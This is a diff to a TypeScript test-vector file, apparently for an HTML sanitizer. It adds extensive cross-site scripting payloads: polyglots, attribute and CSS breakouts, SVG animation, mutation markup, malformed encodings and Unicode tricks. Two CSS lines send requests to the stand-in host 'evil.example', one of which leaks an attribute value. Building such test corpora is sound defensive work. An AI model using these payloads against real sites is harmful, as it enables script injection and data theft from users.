@@ -345,6 +345,215 @@ const nullBytes: [string, string][] = [
   ["NUL inside text", "a\u0000b<img src=x onerror=xss()\u0000>"],
 ];
 
+/**
+ * Bytes that are not UTF-8 (overlong forms, stray continuation bytes), written the way Python's
+ * "surrogateescape" does: byte 0xXY becomes the lone surrogate U+DCXY. In a JavaScript string they
+ * are broken Unicode; `formBytes()` sends them to a server as the raw bytes they stand for.
+ */
+export function rawBytes(hex: string): string {
+  return hex.replace(/%([89a-f][0-9a-f])/gi, (_, b: string) =>
+    String.fromCharCode(0xdc00 + Number.parseInt(b, 16)),
+  );
+}
+
+/** `text` percent-encoded for a form body or a query string, raw bytes (see `rawBytes`) as they are. */
+export function formBytes(text: string): string {
+  let out = "";
+  for (let i = 0; i < text.length; i++) {
+    const c = text.charCodeAt(i);
+    const pair = c >= 0xd800 && c <= 0xdbff && /[\uDC00-\uDFFF]/.test(text[i + 1] ?? "");
+    if (pair) {
+      out += encodeURIComponent(text.slice(i, i + 2));
+      i++;
+    } else if (c >= 0xdc80 && c <= 0xdcff) out += `%${(c - 0xdc00).toString(16).toUpperCase()}`;
+    else if (c >= 0xd800 && c <= 0xdfff) {
+      // Any other lone surrogate: its three-byte form, which no UTF-8 decoder accepts.
+      out += [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)]
+        .map((b) => `%${b.toString(16).toUpperCase()}`)
+        .join("");
+    } else out += encodeURIComponent(text[i]!).replace(/%20/g, "+");
+  }
+  return out;
+}
+
+/** One payload for every quoting context at once, and texts that run wherever one of them is left. */
+const polyglots: [string, string][] = [
+  ["quotes then tag", `"'><img src=x onerror=xss()>`],
+  ["closes every raw-text element", `'"--></textarea></title></style></noscript></script><svg onload=xss()>`],
+  [
+    "url, comment and raw text at once",
+    "javascript:/*--></title></style></textarea></script><img src=x onerror=xss()>*/xss()//",
+  ],
+  ["double-quoted handler pair", `" onmouseover=xss() autofocus onfocus=xss() x="`],
+  ["single-quoted handler pair", `' onmouseover=xss() autofocus onfocus=xss() x='`],
+  ["backtick then tag", "`><img src=x onerror=xss()>"],
+  ["script end then script", "</script><script>xss()</script>"],
+  ["script string breakout", `";xss();//`],
+  ["script single-quoted string breakout", `';xss();//`],
+  ["script template literal breakout", "`;xss();//"],
+  ["JSON object breakout", `"}];xss();//`],
+  ["JSON breakout with line separators", `\u2028\u2029"};xss()//`],
+  ["comment end then tag", `--><img src=x onerror=xss()>`],
+  ["CDATA end then tag", `]]><img src=x onerror=xss()>`],
+  ["JS block comment end", "*/xss()/*"],
+  ["template expression, braces", "{{constructor.constructor('xss()')()}}"],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
+  ["template expression, dollar", "${xss()}"],
+  ["template expression, hash", "#{xss()}"],
+  ["server template tag", "<%= xss() %>"],
+  ["pre-encoded tag", "&lt;img src=x onerror=xss()&gt;"],
+  ["double-encoded script", "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;"],
+  ["percent-encoded script", "%3Cscript%3Exss()%3C%2Fscript%3E"],
+  ["double percent-encoded script", "%253Cscript%253Exss()%253C%252Fscript%253E"],
+  ["JavaScript hex escapes as text", "\\x3cimg src=x onerror=xss()\\x3e"],
+  ["JavaScript unicode escapes as text", "\\u003cscript\\u003exss()\\u003c/script\\u003e"],
+  ["UTF-7 script", "+ADw-script+AD4-xss()+ADw-/script+AD4-"],
+  ["US-ASCII high-bit script", "\u00bcscript\u00bexss()\u00bc/script\u00be"],
+  ["HTML and SVG and URL at once", `javascript:"/*'/*\`/*--></title><svg/onload=xss()>`],
+];
+
+/** Breaking out of the value of an attribute, whichever quotes the page uses around it. */
+const attributes: [string, string][] = [
+  ["double-quoted autofocus", `" autofocus onfocus="xss()`],
+  ["single-quoted autofocus", `' autofocus onfocus='xss()`],
+  ["unquoted handler", "x onmouseover=xss()"],
+  ["unquoted handler after slash", "x/onmouseover=xss()"],
+  ["double-quoted animation", `" style="animation:probe 1s" onanimationstart="xss()`],
+  ["double-quoted closes the tag", `"><script>xss()</script>`],
+  ["single-quoted closes the tag", `'><script>xss()</script>`],
+  ["entity-encoded double quote", "&quot; onmouseover=&quot;xss()"],
+  ["numeric double quote", "&#34;&#62;&#60;img src=x onerror=xss()&#62;"],
+  ["bare javascript: URL", "javascript:xss()"],
+  ["bare javascript: URL, leading spaces", "   javascript:xss()"],
+  ["bare javascript: URL, tab inside", "java\tscript:xss()"],
+  ["bare javascript: URL, entity-encoded", "&#106;avascript&#58;xss()"],
+  ["bare data: URL", "data:text/html,<script>xss()</script>"],
+  ["bare data: URL, base64", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg=="],
+  ["bare vbscript: URL", "vbscript:msgbox(1)"],
+  ["href added to the tag", `" href="javascript:xss()`],
+  ["query string breakout", `?a=1&b="><img src=x onerror=xss()>`],
+  ["fragment breakout", `#"><img src=x onerror=xss()>`],
+  ["srcdoc added to the tag", `" srcdoc="<script>xss()</script>`],
+  ["formaction added to the tag", `" formaction="javascript:xss()`],
+  ["closes a textarea", "</textarea><img src=x onerror=xss()>"],
+  ["closes a title", "</title><img src=x onerror=xss()>"],
+  ["closes a title, upper case with space", "</TITLE ><img src=x onerror=xss()>"],
+  ["closes a style", "</style><img src=x onerror=xss()>"],
+  ["closes a noscript", "</noscript><img src=x onerror=xss()>"],
+  ["closes a select option", "</option></select><img src=x onerror=xss()>"],
+];
+
+/** Text that ends up inside a style sheet or a style attribute. */
+const css: [string, string][] = [
+  ["declaration with url(javascript:)", "red;background:url(javascript:xss())"],
+  ["rule closed, new rule", `red}body{background-image:url("javascript:xss()")}`],
+  ["bare expression()", "expression(xss())"],
+  ["bare @import", `@import "javascript:xss()";`],
+  ["style element closed", "</style><script>xss()</script>"],
+  ["escaped url()", "\\75 rl(javascript:xss())"],
+  ["behavior and binding", "behavior:url(#default#x);-moz-binding:url(data:,xss())"],
+  ["style attribute with comment split", '<p style="background:url(java/**/script:xss())">x</p>'],
+  ["style element with @import url", "<style>@import url(//evil.example/x.css);</style>"],
+  [
+    "style attribute exfiltrating an attribute",
+    "<p style=\"background:url('https://evil.example/?'attr(title))\">x</p>",
+  ],
+];
+
+/** SVG animation and references that point a link at script. */
+const svgMore: [string, string][] = [
+  [
+    "set href to javascript:",
+    '<svg><a><set attributeName="href" to="javascript:xss()"/><text y="20">go</text></a></svg>',
+  ],
+  [
+    "animate xlink:href values",
+    '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink"><animate attributeName="xlink:href" values="javascript:xss()"/><circle r="9"/></a></svg>',
+  ],
+  [
+    "use xlink:href data:",
+    '<svg><use xlink:href="data:image/svg+xml,&lt;svg id=%22x%22 onload=%22xss()%22/&gt;#x"/></svg>',
+  ],
+  [
+    "svg with onload inside foreignObject body",
+    "<svg><foreignObject><body onload=xss()></body></foreignObject></svg>",
+  ],
+  ["svg script with xlink:href", '<svg><script xlink:href="data:,xss()"></script></svg>'],
+  ["svg feImage href", '<svg><filter><feImage href="javascript:xss()"/></filter></svg>'],
+  ["svg discard onbegin", "<svg><discard onbegin=xss()></svg>"],
+  ["svg animate onend", '<svg><animate attributeName="x" dur="1ms" onend="xss()"/></svg>'],
+  ["svg listener element", '<svg><listener event="load" handler="#h"/><handler id="h">xss()</handler></svg>'],
+];
+
+/** Markup that reads one way to a sanitizer and another once the browser parses it again. */
+const mutationMore: [string, string][] = [
+  ["noscript attribute breakout", `<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>`],
+  ["template inside table", `<table><template><td>${IMG}</td></template></table>`],
+  ["template content reparsed", `<template><style></template>${IMG}</style></template>`],
+  ["comment inside title", `<title><!--</title>${IMG}--></title>`],
+  ["CDATA inside math", `<math><![CDATA[</math>${IMG}]]></math>`],
+  ["CDATA in svg title", `<svg><title><![CDATA[</title>${IMG}]]></title></svg>`],
+  ["svg inside noscript", `<noscript><svg><style></noscript>${IMG}</style></svg></noscript>`],
+  ["math mtext mglyph svg", `<math><mtext><mglyph><svg><mtext><style><path id="</style>${IMG}">`],
+  [
+    "math annotation-xml svg style",
+    `<math><annotation-xml encoding="text/html"><svg><style>${IMG}</style></svg></annotation-xml></math>`,
+  ],
+  ["form nested in form", `<form><form>${IMG}</form></form>`],
+  ["noembed attribute breakout", `<noembed><p title="</noembed>${IMG}"></noembed>`],
+  ["xmp with comment", `<xmp><!--</xmp>${IMG}--></xmp>`],
+  ["comment with double dash inside", `<!-- a -- b --><!-- ${IMG} -- -->`],
+];
+
+/** Broken UTF-8 and escapes that a decoder could turn into markup. */
+const encodings: [string, string][] = [
+  [
+    "overlong < and >",
+    `${rawBytes("%C0%BC")}script${rawBytes("%C0%BE")}xss()${rawBytes("%C0%BC")}/script${rawBytes("%C0%BE")}`,
+  ],
+  ["three-byte overlong <", `${rawBytes("%E0%80%BC")}img src=x onerror=xss()${rawBytes("%E0%80%BE")}`],
+  [
+    "overlong quote in an attribute",
+    `<p title="x${rawBytes("%C0%A2")} onmouseover=xss() y=${rawBytes("%C0%A2")}">t</p>`,
+  ],
+  ["stray continuation byte before <", `${rawBytes("%80")}<script>xss()</script>`],
+  ["truncated sequence eats the <", `${rawBytes("%C3")}<img src=x onerror=xss()>`],
+  ["lone high surrogate before a tag", "\ud800<img src=x onerror=xss()>"],
+  ["lone low surrogate inside a tag name", "<scr\udc00ipt>xss()</scr\udc00ipt>"],
+  ["lone surrogate in javascript:", '<a href="java\ud83dscript:xss()">x</a>'],
+  ["NUL between quotes", `"\u0000><img src=x onerror=xss()>`],
+  ["NUL entity in tag name", "<scr&#0;ipt>xss()</scr&#0;ipt>"],
+  ["entity without semicolon ending in <", "&lt<img src=x onerror=xss()>"],
+  ["ambiguous ampersand before name", "&ltimg src=x onerror=xss()&gt"],
+  ["entity for < in a tag name", "&#60;script&#62;xss()&#60;/script&#62;"],
+  ["hex entity beyond Unicode", "&#x110000;<img src=x onerror=xss()>"],
+  ["C1 control in a handler name", "<img src=x on\u0085error=xss()>"],
+];
+
+/** Characters that look like markup, hide markup, or turn text around. */
+const unicode: [string, string][] = [
+  ["full-width img", "\uff1cimg src=x onerror=xss()\uff1e"],
+  ["full-width quote breakout", "\uff02\uff1e\uff1cscript\uff1exss()\uff1c/script\uff1e"],
+  ["small form variants", "\ufe64script\ufe65xss()\ufe64/script\ufe65"],
+  ["CJK angle brackets", "\u3008script\u3009xss()\u3008/script\u3009"],
+  ["right-to-left override reverses a tag", "\u202e>tpircs/<)(ssx>tpircs<\u202c"],
+  ["right-to-left override inside a tag", "<img src=x \u202eonerror=xss()>"],
+  ["left-to-right isolate in a link", '<a href="\u2066javascript:xss()\u2069">x</a>'],
+  ["zero-width space in script", "<scr\u200bipt>xss()</scr\u200bipt>"],
+  ["zero-width joiner in a handler", "<img src=x on\u200derror=xss()>"],
+  ["zero-width space in javascript:", '<a href="java\u200bscript:xss()">x</a>'],
+  ["byte order mark before script", "\ufeff<script>xss()</script>"],
+  ["byte order mark before javascript:", '<a href="\ufeffjavascript:xss()">x</a>'],
+  ["Cyrillic s in script", "<\u0455cript>xss()</\u0455cript>"],
+  ["dotted capital I in img", "<\u0130mg src=x onerror=xss()>"],
+  [
+    "mathematical bold script",
+    "<\ud835\udc2c\ud835\udc1c\ud835\udc2b\ud835\udc22\ud835\udc29\ud835\udc2d>xss()</\ud835\udc2c\ud835\udc1c\ud835\udc2b\ud835\udc22\ud835\udc29\ud835\udc2d>",
+  ],
+  ["combining mark after <", "<\u0338script>xss()</script>"],
+  ["Kelvin sign in a link scheme", '<a href="javascript\u212a:xss()">x</a>'],
+];
+
 const groups: Record<string, [string, string][]> = {
   script: scriptTags,
   handler: handlers,
@@ -358,6 +567,13 @@ const groups: Record<string, [string, string][]> = {
   mutation,
   namespace: namespaces,
   nul: nullBytes,
+  polyglot: polyglots,
+  attribute: attributes,
+  css,
+  "svg animation": svgMore,
+  "mutation, more": mutationMore,
+  encoding: encodings,
+  unicode,
 };
 
 export const vectors: XssVector[] = Object.entries(groups).flatMap(([group, list]) =>
